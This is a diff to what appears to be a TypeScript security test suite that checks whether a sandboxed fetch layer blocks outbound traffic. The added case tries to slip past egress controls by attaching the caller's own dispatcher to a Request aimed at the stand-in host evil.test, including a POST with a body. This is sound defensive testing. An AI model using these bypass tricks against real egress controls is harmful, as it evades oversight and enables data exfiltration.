@@ -34,6 +34,17 @@ export const DISPATCHER_TRICKS: readonly Trick[] = [
   withOwn('the port of a TCP service', () => 'http://evil.test:5432/'),
   withOwn('https', () => 'https://evil.test/'),
   {
+    trick: 'a Request that carries a dispatcher of the caller\'s own',
+    outcome: '502',
+    attempts: [
+      { door: 'mesh.fetch', run: (world) => world.mesh.fetch(new Request(`http://evil.test:${world.canary.port}/`, { dispatcher: own(world) } as never)) },
+      {
+        door: 'mesh.fetch, native lane',
+        run: (world) => world.mesh.fetch(new Request(`http://evil.test:${world.canary.port}/`, { dispatcher: own(world), method: 'POST', body: 'a' } as never)),
+      },
+    ],
+  },
+  {
     trick: 'a ProxyAgent of the caller\'s own',
     outcome: 'ERR_EGRESS_BLOCKED',
     attempts: [{ door: 'mesh.fetch', run: ({ mesh, canary }) => mesh.fetch('http://evil.test/', { dispatcher: new ProxyAgent(`http://127.0.0.66:${canary.port}`) } as never) }],
